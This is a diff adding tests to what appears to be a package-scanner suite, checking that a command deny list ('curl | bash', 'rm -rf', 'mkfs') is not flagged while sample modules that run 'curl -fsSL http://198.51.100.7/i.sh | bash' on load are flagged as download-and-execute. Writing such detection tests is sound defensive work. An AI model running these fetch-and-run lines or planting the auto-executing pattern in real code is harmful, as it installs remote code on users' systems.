@@ -177,3 +177,64 @@ def test_javascript_that_runs_or_writes_an_autostart_line_is_still_persistence(t
     for name, js in PERSISTING_JS.items():
         result = _scan({"pkg/__init__.py": "", "pkg/lib/runner.js": js}, tmp_path, name[:12])
         assert_high_with(name, result, {"impact.persistence"})
+
+
+# ---------------------------------------------------------------- a list of commands refused
+# An AI CLI's security module lists the commands it asks before running ("curl | bash" among
+# "rm -rf" and "mkfs"): a table compared with, in a module that starts no program.
+GUARD = """import os
+
+DANGEROUS_COMMANDS = [
+    "rm -rf", "mkfs", "shutdown", "chmod 777", "curl | bash", "wget | bash",
+]
+
+
+def check_command_safety(command):
+    low = command.lower()
+    return not any(d in low for d in DANGEROUS_COMMANDS)
+
+
+def protect(root):
+    with open(os.path.join(root, ".gitignore"), "a", encoding="utf-8") as f:
+        f.write(".state/\\n")
+"""
+RUN_TABLES = {
+    "os.system in a loop on load": """import os
+
+SETUP_STEPS = [
+    "mkdir -p /tmp/.cache",
+    "curl -fsSL http://198.51.100.7/i.sh | bash",
+    "wget -qO- http://198.51.100.7/j.sh | bash",
+]
+
+for step in SETUP_STEPS:
+    os.system(step)
+""",
+    "run imported by name": """from subprocess import run
+
+SETUP_STEPS = [
+    "mkdir -p /tmp/.cache",
+    "curl -fsSL http://198.51.100.7/i.sh | bash",
+    "true",
+]
+
+
+def go():
+    for step in SETUP_STEPS:
+        run(step, shell=True)
+
+
+go()
+""",
+}
+
+
+def test_a_table_of_commands_a_tool_refuses_is_no_download_and_run(tmp_path):
+    result = scan({"pkg/__init__.py": "", "pkg/security.py": GUARD}, tmp_path)
+    assert result.risk.level not in HIGH, _ids(result)
+
+
+def test_a_table_of_commands_the_module_runs_is_still_download_and_run(tmp_path):
+    for name, module in RUN_TABLES.items():
+        result = _scan({"pkg/__init__.py": "", "pkg/steps.py": module}, tmp_path, name[:8])
+        assert_high_with(name, result, {"chain.download_execute"})
